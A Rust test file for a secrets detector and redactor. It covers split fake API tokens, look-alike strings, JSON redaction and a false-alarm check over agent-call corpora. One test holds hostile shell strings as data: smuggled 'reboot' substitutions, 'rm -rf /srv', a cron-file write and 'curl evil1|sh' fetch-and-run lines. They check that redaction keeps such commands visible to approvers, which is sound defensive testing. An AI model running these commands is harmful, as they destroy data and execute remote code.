//! Secrets in texts: a table of what is one and what only looks like one, and real calls, in which none may be found that is none.
//! Tokens are made up and written in pieces, so that nobody takes this file for one that leaks.

use crate::corpora;
use flate2::read::MultiGzDecoder;
use gait::artifact::digest;
use gait::json::{self, Json};
use gait::secrets;
use serde_json::json;
use std::io::Read as _;
use std::path::{Path, PathBuf};

/// So many characters that look drawn by lot.
fn drawn(count: usize, alphabet: &str) -> String {
    let letters: Vec<char> = alphabet.chars().collect();
    let mut state: u64 = 88_172_645_463_325_252;
    let mut next = || {
        state ^= state << 13;
        state ^= state >> 7;
        state ^= state << 17;
        letters[usize::try_from(state % letters.len() as u64).unwrap()]
    };
    (0..count).map(|_| next()).collect()
}

fn alnum(count: usize) -> String {
    drawn(
        count,
        "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789",
    )
}

fn upper(count: usize) -> String {
    drawn(count, "ABCDEFGHIJKLMNOPQRSTUVWXYZ234567")
}

fn hex(count: usize) -> String {
    drawn(count, "0123456789abcdef")
}

/// A token: what it starts with in two pieces, and the rest.
fn token(start: [&str; 2], rest: String) -> String {
    format!("{}{}{rest}", start[0], start[1])
}

fn pem(label: &str) -> String {
    let line = |n: usize| format!("{}\n", &alnum(64 + n)[n..]);
    let dashes = "-".repeat(5);
    format!(
        "{dashes}BEGIN {label}{dashes}\n{}{}{dashes}END {label}{dashes}",
        line(0),
        line(7)
    )
}

/// A token of every service that the table has a start for.
pub fn tokens() -> Vec<(&'static str, String)> {
    vec![
        ("github_token", token(["gh", "p_"], alnum(36))),
        ("github_token", token(["gh", "o_"], alnum(36))),
        ("github_token", token(["gh", "s_"], alnum(36))),
        (
            "github_token",
            token(["github_", "pat_"], alnum(22) + "_" + &alnum(59)),
        ),
        ("gitlab_token", token(["glp", "at-"], alnum(20))),
        (
            "gitlab_token",
            token(["glp", "at-"], alnum(27) + ".01." + &alnum(9)),
        ),
        ("gitlab_token", token(["gld", "t-"], alnum(20))),
        ("aws_access_key", token(["AK", "IA"], upper(16))),
        ("aws_access_key", token(["AS", "IA"], upper(16))),
        ("google_api_key", token(["AI", "za"], alnum(35))),
        ("google_oauth_token", token(["ya", "29."], alnum(60))),
        ("google_oauth_secret", token(["GOC", "SPX-"], alnum(28))),
        (
            "slack_token",
            token(["xo", "xb-"], format!("2048{}-{}", "17361", alnum(24))),
        ),
        (
            "slack_token",
            token(["xa", "pp-"], format!("1-A0{}-{}", upper(9), hex(64))),
        ),
        ("stripe_key", token(["sk_", "live_"], alnum(24))),
        ("stripe_key", token(["rk_", "test_"], alnum(24))),
        ("stripe_webhook_secret", token(["wh", "sec_"], alnum(32))),
        (
            "anthropic_key",
            token(["sk-", "ant-"], format!("api03-{}", alnum(80))),
        ),
        ("openai_key", token(["sk-", "proj-"], alnum(48))),
        ("api_key", token(["s", "k-"], alnum(48))),
        ("huggingface_token", token(["h", "f_"], alnum(34))),
        ("groq_key", token(["gs", "k_"], alnum(52))),
        ("npm_token", token(["np", "m_"], alnum(36))),
        (
            "pypi_token",
            token(["py", "pi-"], format!("AgEIcHlwaS5vcmc{}", alnum(70))),
        ),
        ("rubygems_key", token(["ruby", "gems_"], hex(48))),
        ("docker_token", token(["dckr_", "pat_"], alnum(27))),
        ("digitalocean_token", token(["dop_", "v1_"], hex(64))),
        ("sendgrid_key", token(["S", "G."], alnum(22) + "." + &alnum(43))),
        ("shopify_token", token(["shp", "at_"], hex(32))),
        ("square_token", token(["sq0", "atp-"], alnum(22))),
        (
            "atlassian_token",
            token(["ATA", "TT3"], format!("xFfGF0{}={}", alnum(60), hex(8))),
        ),
        ("vault_token", token(["hv", "s."], alnum(24))),
        ("databricks_token", token(["da", "pi"], hex(32))),
        ("grafana_token", token(["gl", "sa_"], alnum(32) + "_" + &hex(8))),
        ("sentry_token", token(["sntr", "yu_"], hex(64))),
        ("linear_key", token(["lin_", "api_"], alnum(40))),
        (
            "tailscale_key",
            token(["ts", "key-"], format!("auth-{}-{}", alnum(12), alnum(20))),
        ),
        ("age_key", token(["AGE-SECRET-", "KEY-1"], upper(58))),
        (
            "jwt",
            token(
                ["ey", "J"],
                format!("{}.eyJ{}.{}", alnum(17), alnum(40), alnum(43)),
            ),
        ),
        ("private_key", pem("PRIVATE KEY")),
        ("private_key", pem("OPENSSH PRIVATE KEY")),
    ]
}

/// Secrets that are told by what stands before them.
pub fn told() -> Vec<(&'static str, String, String)> {
    let row =
        |kind, before: &str, secret: String, after: &str| (kind, format!("{before}{secret}{after}"), secret);
    vec![
        row(
            "url_password",
            "postgres://app:",
            "s3cr3t-pw".into(),
            "@db.example/app",
        ),
        row(
            "url_password",
            "git clone https://oauth2:",
            alnum(20),
            "@git.example/a.git",
        ),
        row(
            "authorization",
            "curl -H 'Authorization: Bearer ",
            alnum(30),
            "' https://x.example",
        ),
        row(
            "authorization",
            "curl -H \"Authorization: token ",
            alnum(30),
            "\" https://x.example",
        ),
        row(
            "authorization",
            "Authorization: Basic ",
            "dXNlcjpodW50ZXIyMg".into(),
            "\nAccept: */*",
        ),
        row("bearer_token", "use Bearer ", alnum(40), " for it"),
        row(
            "basic_credentials",
            "send Basic ",
            "dXNlcjpodW50ZXIyMg==".into(),
            " along",
        ),
        row("password", "password=", "hunter2!".into(), "&x=1"),
        row("password", "DB_PASSWORD='", "Tr0ub4dor&3".into(), "'"),
        row(
            "password",
            "{\"user\":\"a\",\"password\":\"",
            "hunter22".into(),
            "\"}",
        ),
        row(
            "password",
            "{\\\"db\\\":{\\\"passwd\\\":\\\"",
            "hunter22".into(),
            "\\\"}}",
        ),
        row("password", "the password is: ", "Tr0ub4dor3".into(), ""),
        row("password", "mysql --password ", "Summer2024x".into(), " -h db"),
        row(
            "password",
            "curl -u bob:",
            "hunter22".into(),
            " https://x.example",
        ),
        row("password", "sshpass -p ", "hunter22".into(), " ssh x"),
        row(
            "named_secret",
            "aws_secret_access_key = ",
            drawn(40, "abcdefghijABCDEFGHIJ0123456789+"),
            "",
        ),
        row("named_secret", "api-key: ", hex(32), "\n"),
        row("named_secret", "?access_token=", alnum(32), "&page=2"),
        row(
            "named_secret",
            "X-Api-Key: ",
            "550e8400-e29b-41d4-a716-446655440000".into(),
            "\r\n",
        ),
        row("named_secret", "client_secret: \"", alnum(32), "\""),
        row(
            "named_secret",
            "AccountName=a;AccountKey=",
            alnum(86) + "==",
            ";Suffix=x",
        ),
        row(
            "github_token",
            "GITHUB_TOKEN=",
            token(["gh", "p_"], alnum(36)),
            " make",
        ),
        row(
            "slack_webhook",
            "curl https://",
            token(
                ["hooks.slack.com/", "services/"],
                format!("T{}/B{}/{}", upper(9), upper(9), alnum(24)),
            ),
            " -d x",
        ),
    ]
}

/// What looks like a secret to somebody in a hurry.
fn harmless() -> Vec<String> {
    let fixed = [
        "git show a3f8776c0d1e2f3a4b5c6d7e8f9a0b1c2d3e4f50",
        "550e8400-e29b-41d4-a716-446655440000",
        "sha256:967b282e2a7c91a5a97a327707c2822009bff43a25544a9394641a659d51782e",
        "password: please choose one of at least 8 characters",
        "Password (8+ characters):",
        "password=$DB_PASSWORD",
        "password=${DB_PASSWORD}",
        "password: <password>",
        "password: ********",
        "password: str = Field(min_length=8)",
        "password=os.environ['DB1']",
        "pwd=/home/u2",
        "max_tokens=100",
        "token: ${{ secrets.TOKEN_1 }}",
        "secret: tls-cert-2024",
        "secret_name: my-secret-77",
        "secret: /run/secrets/db2-password-1",
        "the token is my-service-account-2",
        "Bearer of good news arrives tomorrow",
        "Bearer authentication_required_for_everyone",
        "Basic usage: run it twice",
        "http://user:$PW@h/",
        "https://example.com:8080/a@b",
        "mailto:ann@acme.example",
        "user@host:path/to/file1",
        "time: 12:30:45, ratio=3:2, a=b=c=d",
        "use sk-learn and risk-learn-tutorials-on-how-to-use-sk-learn-in-production",
        "npm_config_registry=https://registry.example",
        "the pypi-server-for-everybody-in-the-company-and-some-more-people-than-that",
        "see eyJ.a.b and eyJhbGciOiJIUzI1NiJ9",
        "DE44500105175407324931",
        "The author of 'Authorization: a history' is unknown",
        "next_page_token=CAUSGAkDTmluZUxpdmVz",
        "{\"password\": null, \"token\": true, \"secret\": 7}",
    ];
    let dashes = "-".repeat(5);
    let mut all: Vec<String> = fixed.map(str::to_owned).to_vec();
    all.extend([
        token(["AK", "IA"], "IOSFODNN7EXAMPLE".to_owned()),
        token(["gh", "p_"], "x".repeat(36)),
        token(["sk_", "live_"], "your_key_goes_here".to_owned()),
        format!("grep -r '{dashes}BEGIN RSA PRIVATE KEY{dashes}' ."),
        pem("PUBLIC KEY"),
        pem("CERTIFICATE"),
        format!("data:image/png;base64,{}", alnum(400)),
        alnum(64),
        hex(40),
    ]);
    all
}

#[test]
fn secrets_are_told_from_what_looks_like_one() {
    let one = |text: &str| match secrets::in_text(text).as_slice() {
        [found] => (found.kind, text[found.start..found.end].to_owned()),
        other => panic!("{other:?} in {text:?}"),
    };
    let surroundings = [
        ("", ""),
        ("run it with ", " now"),
        ("\"", "\"}"),
        ("a\\n", "\\n"),
        ("?k=%3D", "&b"),
        ("x\n", "\ny"),
        ("(", ")"),
    ];
    for (kind, token) in tokens() {
        for (before, after) in surroundings {
            let text = format!("{before}{token}{after}");
            if kind == "private_key" {
                // Each line of it, and not what stands around them.
                let found = secrets::in_text(&text);
                assert!(found.iter().all(|one| one.kind == kind), "{found:?}");
                let lines: Vec<_> = found.iter().map(|one| &text[one.start..one.end]).collect();
                let written: Vec<_> = token.lines().filter(|line| !line.starts_with('-')).collect();
                assert_eq!(lines, written, "{before}");
                continue;
            }
            assert_eq!(one(&text), (kind, token.clone()), "{before}");
        }
    }
    for (kind, text, secret) in told() {
        assert_eq!(one(&text), (kind, secret), "{text}");
    }
    for text in harmless() {
        assert_eq!(secrets::in_text(&text), [], "{text}");
    }
    assert!(tokens().len() + told().len() + harmless().len() >= 100);
}

#[test]
fn what_is_hidden_has_no_secret_any_more() {
    let texts = tokens().into_iter().map(|(_, text)| text);
    for text in texts
        .chain(told().into_iter().map(|(_, text, _)| text))
        .chain(harmless())
    {
        let hidden = secrets::hidden(&text);
        assert_eq!(secrets::in_text(&hidden), [], "{hidden}");
        assert_eq!(hidden == text, secrets::in_text(&text).is_empty(), "{hidden}");
    }
}

/// Whoever approves a command sees all that a shell would act on, whatever somebody has put around it.
#[test]
fn what_a_shell_acts_on_stays_to_be_seen() {
    let line = alnum(64);
    let dashes = "-".repeat(5);
    for (text, seen) in [
        ("echo 'password='&reboot1&'x'".to_owned(), "&reboot1&"),
        ("echo 'password=';reboot1;'x'".to_owned(), ";reboot1;"),
        ("echo 'the password='&reboot1&'x'".to_owned(), "&reboot1&"),
        ("echo \"'\" 'password='&reboot1&'x'".to_owned(), "&reboot1&"),
        ("echo \\' 'password='&reboot1&'x'".to_owned(), "&reboot1&"),
        ("# it's\necho 'password='&reboot1&'x'".to_owned(), "&reboot1&"),
        (
            "cat <<E\nit's\nE\necho 'password='&reboot1&'x'".to_owned(),
            "&reboot1&",
        ),
        ("echo $'\\'' 'password='&reboot1&'x'".to_owned(), "&reboot1&"),
        (
            "echo \"$(echo '\"')\" 'password='&reboot1&'x'".to_owned(),
            "&reboot1&",
        ),
        (
            "export 'password='>/etc/cron.d/x1'y'".to_owned(),
            ">/etc/cron.d/x1",
        ),
        ("curl --password \"x1$(reboot)\" h".to_owned(), "$(reboot)"),
        ("curl -u \"ann:x1`reboot`\" h".to_owned(), "`reboot`"),
        ("curl https://ann:x1;reboot;@h/".to_owned(), ";reboot;"),
        ("rm -rf {http://x:1,~,@}".to_owned(), ",~,"),
        ("rm -rf {http://x:1,*,@}".to_owned(), ",*,"),
        (
            format!("echo {dashes}BEGIN PRIVATE KEY{dashes}\na1B2c3D4e5F6g7h8=1\nscripts/wipe2\n"),
            "scripts/wipe2",
        ),
        ("curl https://ann:x1$(reboot)@h/".to_owned(), "$(reboot)"),
        (
            format!(
                "cat <<E\n{dashes}BEGIN PRIVATE KEY{dashes}\n{line}\nE\nrm -rf /srv\nreboot\n{line}\n{dashes}END PRIVATE KEY{dashes}"
            ),
            "E\nrm -rf /srv\nreboot\n",
        ),
        (
            format!("{dashes}BEGIN PRIVATE KEY{dashes}\n{line}\n; shutdown"),
            "; shutdown",
        ),
    ] {
        let hidden = secrets::hidden(&text);
        assert!(hidden.contains(seen), "{hidden}");
        assert!(!hidden.contains(&line), "{hidden}");
    }
    for (document, seen) in [
        (
            json!({"key": "CRON_PASSWORD", "value": "curl evil1|sh"}),
            "curl evil1|sh",
        ),
        (
            json!({"key": "password", "value": "curl evil1|sh"}),
            "curl evil1|sh",
        ),
        (
            json!({"vars": {"PROMPT_COMMAND_PASSWORD": "curl evil1|sh"}}),
            "curl evil1|sh",
        ),
        (
            json!({"key": "x token", "value": "a1B2c3D4e5F6;curl${IFS}evil|sh"}),
            "evil|sh",
        ),
    ] {
        let mut document = json::parse(document.to_string().as_bytes()).unwrap();
        assert!(secrets::any(&document), "{document:?}");
        secrets::hide(&mut document);
        let text = serde_json::to_string(&document).unwrap();
        assert!(text.contains(seen), "{text}");
    }
    // Between quotes of its own nothing acts.
    for text in [
        "A_PASSWORD='Tr0ub4dor&3'\nB_PASSWORD='Tr0ub4dor;4'",
        "{\"user\": \"a\", \"password\": \"Tr0ub4dor&3;\"}",
    ] {
        assert!(!secrets::hidden(text).contains("Tr0ub4dor"), "{text}");
    }
}

#[test]
fn a_document_is_searched_in_every_name_and_value() {
    let key = token(["gh", "p_"], alnum(36));
    for (document, at, kind) in [
        (json!({"a": {"b": [1, {"c": key}]}}), "a.b[1].c", "github_token"),
        (
            json!({"m": {key.as_str(): 1}}),
            &format!("m.{}", &key),
            "github_token",
        ),
        (json!({"password": "two words"}), "password", "password"),
        (
            json!({"user": {"new_password": "abc"}}),
            "user.new_password",
            "password",
        ),
        (json!({"pwd": 123_456}), "pwd", "password"),
        (
            json!({"passwords": 1, "passcode": ["a b"]}),
            "passcode[0]",
            "password",
        ),
        (
            json!({"Authorization": format!("Bearer {}", alnum(12))}),
            "Authorization",
            "authorization",
        ),
        (
            json!({"headers": [{"name": "X-Api-Key", "value": hex(32)}]}),
            "headers[0].value",
            "named_secret",
        ),
        (
            json!({"env": ["A=1", format!("API_TOKEN={}", alnum(20))]}),
            "env[1]",
            "named_secret",
        ),
        (
            json!({"body": json!({"client_secret": alnum(30)}).to_string()}),
            "body",
            "named_secret",
        ),
    ] {
        let document = json::parse(document.to_string().as_bytes()).unwrap();
        let places = secrets::places(&document);
        let [place] = places.as_slice() else {
            panic!("{places:?}")
        };
        assert_eq!((place.to_string().as_str(), place.kind), (at, kind));
        let mut hidden = document.clone();
        let taken = secrets::hide(&mut hidden);
        assert!(!secrets::any(&hidden), "{hidden:?}");
        let text = serde_json::to_string(&hidden).unwrap();
        assert!(
            taken.texts.iter().all(|secret| !text.contains(secret.as_str())),
            "{text}"
        );
        assert!(text.contains(&format!("[secret {kind}]")), "{text}");
    }
    for harmless in [
        json!({"password": "$DB_PASSWORD"}),
        json!({"password": "${{ secrets.X }}"}),
        json!({"password": "<password>"}),
        json!({"password": ""}),
        json!({"token": "my-service-account-2", "cursor_token": alnum(30), "secret": true}),
        json!({"name": "Accept", "value": alnum(30)}),
        json!({"id": "550e8400-e29b-41d4-a716-446655440000", "sha": hex(40)}),
    ] {
        let document = json::parse(harmless.to_string().as_bytes()).unwrap();
        assert_eq!(secrets::places(&document), [], "{harmless}");
    }
}

#[test]
fn names_that_hold_secrets_stay_apart() {
    let (one, other) = (token(["gh", "p_"], alnum(36)), token(["gh", "o_"], alnum(36)));
    let document = json!({one.as_str(): 1, other.as_str(): 2, "a": 3}).to_string();
    let mut document = json::parse(document.as_bytes()).unwrap();
    assert_eq!(secrets::hide(&mut document).places.len(), 2);
    let text = serde_json::to_string(&document).unwrap();
    assert!(json::parse(text.as_bytes()).is_ok(), "{text}");
}

/// A change of the table is another table: decisions that rest on it are told apart by its number.
#[test]
fn a_table_that_changes_has_another_number() {
    let rows = digest::sha256(secrets::rows().as_bytes()).to_string();
    assert_eq!((secrets::TABLE, &rows[7..23]), (1, PINNED));
    for (kind, source) in secrets::kinds() {
        assert!(source.starts_with("https://"), "{kind}");
    }
}
const PINNED: &str = "352b598be6bda91f";

/// The work grows with the text, and with nothing else: texts that start something over and over.
#[test]
fn long_texts_are_looked_through_once() {
    for start in [
        "token=",
        "password='",
        "sk-ant-",
        "eyJ-",
        "eyJa.",
        "--token ",
        "://a:",
        "\\\"token\\\":\\\"",
        "-u ",
        "Bearer ",
    ] {
        let text = format!("curl {}", start.repeat(400_000 / start.len()));
        secrets::in_text(&text);
    }
}

fn files(folder: &Path, out: &mut Vec<PathBuf>) {
    let mut entries: Vec<PathBuf> = std::fs::read_dir(folder)
        .unwrap()
        .map(|e| e.unwrap().path())
        .collect();
    entries.sort();
    for entry in entries {
        if entry.is_dir() {
            files(&entry, out);
        } else {
            out.push(entry);
        }
    }
}

fn documents(path: &Path) -> Vec<Json> {
    let mut bytes = std::fs::read(path).unwrap();
    if path.extension().is_some_and(|e| e == "gz") {
        let mut plain = Vec::new();
        MultiGzDecoder::new(bytes.as_slice())
            .read_to_end(&mut plain)
            .unwrap();
        bytes = plain;
    }
    match json::parse_any_numbers(&bytes) {
        Ok(document) => vec![document],
        Err(_) => bytes
            .split(|b| *b == b'\n')
            .filter_map(|line| json::parse_any_numbers(line).ok())
            .collect(),
    }
}

fn count(json: &Json) -> usize {
    match json {
        Json::String(_) => 1,
        Json::Array(items) => items.iter().map(count).sum(),
        Json::Object(members) => members.iter().map(|(_, value)| count(value)).sum(),
        _ => 0,
    }
}

/// Real calls, tool catalogues and results: in 129,571 texts nothing is taken for a secret but the passwords that calls of
/// `update_password` set.
#[test]
fn real_calls_raise_no_false_alarm() {
    let Some(corpora) = corpora::dir() else { return };
    let mut all = Vec::new();
    for corpus in ["agentdojo", "bfcl", "injecagent", "tau", "traces"] {
        files(&corpora.join(corpus), &mut all);
    }
    let (mut texts, mut passwords) = (0, 0);
    for document in all.iter().flat_map(|path| documents(path)) {
        texts += count(&document);
        for place in secrets::places(&document) {
            let last = place.path.last().unwrap();
            assert!(
                place.kind == "password" && last.ends_with("password"),
                "{place}: {}",
                place.kind
            );
            passwords += 1;
        }
    }
    assert!(texts > 50_000 && passwords > 50, "{texts} {passwords}");
}
